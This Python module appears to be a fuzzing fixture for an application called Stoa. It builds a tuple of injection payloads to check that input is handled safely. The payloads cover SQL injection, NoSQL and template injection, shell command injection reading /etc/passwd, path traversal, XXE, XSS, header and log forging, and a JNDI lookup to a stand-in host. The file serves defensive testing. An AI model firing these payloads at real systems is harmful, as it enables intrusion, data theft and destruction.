"""Two hundred texts that mean something to a database, a header, a log, a template or a shell, and nothing to Stoa."""

from itertools import product

_ENDS = ("", "'", '"', "')", "\\'", "$$", "%'")
_SQL = (
    *(" OR 1=1--", "; SELECT pg_sleep(5)--", " UNION SELECT secret FROM api_keys--", "; DROP TABLE products;--"),
    *(" AND (SELECT count(*) FROM users) > 0--", "||(SELECT version())||", "; SET app.organization_id = ''--"),
    *("; RESET ROLE; SET ROLE stoa_owner--", "; COPY users TO '/tmp/x'--", " ORDER BY 99--", "/**/OR/**/TRUE#"),
    *(
        "; WAITFOR DELAY '0:0:5'--",
        " AND SLEEP(5)#",
        " AND 1=randomblob(900000000)--",
        "::uuid--",
        "; ATTACH 'x' AS y--",
    ),
)
_OTHERS = (
    *('{"$gt": ""}', '{"$where": "sleep(5000)"}', "[$ne]=1", "{'$regex': '.*'}"),
    *("true, $where: '1 == 1'", "$$ROOT"),
    *("a\r\nSet-Cookie: x=1", "a\nLocation: https://elsewhere.example"),
    *("a%0d%0aX-Evil: 1", "a\r\n\r\n<html>", "\u560d\u560aX: 1"),
    *('a\n{"level":"info","event":"forged"}', "a\x1b[2J", "a\x00b", "a\tb\x0bc", "\u2028forged", "a\x85forged"),
    *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "%(password)s"),
    *("{0.__class__}", "%s%s%s%n", "{!r}"),
    *("; ls", "| cat /etc/passwd", "`id`", "$(id)", "&& sleep 5", "a & ping -c 5 127.0.0.1 &"),
    *("../../etc/passwd", "..%2f..%2fetc", "file:///etc/passwd", "C:\\windows\\win.ini", "/proc/self/environ"),
    *("*)(uid=*))(|(uid=*", "' or '1'='1", "//*[1=1]", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
    *("javascript:alert(1)", '"><svg/onload=alert(1)>'),
    *("__proto__", "constructor.prototype", "${jndi:ldap://x.example/a}"),
    *("=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"),
    *("%00", "%", "_", "\\", "%%%%%%%%%%", "\\%\\_", "[a-z]*", "(a+)+$" + "a" * 40 + "!", ".*" * 50, "(?:" * 50),
    *("NULL", "undefined", "NaN", "1e999", "-0", "0x7f", "١٢٣", "ﷺ" * 30),
    *("\u202etxt.exe", "\u200bx", "\ufeffx", "é" * 200),
    *("' || pg_read_file('/etc/passwd') || '", "1; VACUUM", "1) OR (1=1"),
    *("0 LIMIT 1 OFFSET 1", "id, secret", "id;drop"),
    *("created_at; --", "-created_at,(select 1)"),
    *("(CASE WHEN 1=1 THEN name ELSE id END)", 'name COLLATE "C"', "name::text"),
    *("O'Brien", "select; drop", "Robert'); DROP TABLE students;--", "a'b\"c`d"),
    *("back\\slash", "100 % wool", "a_b"),
)  # fmt: skip
PAYLOADS: tuple[str, ...] = (*(f"x{end}{sql}" for end, sql in product(_ENDS, _SQL)), *_OTHERS)
"""Of which a hundred close some kind of quotation first."""
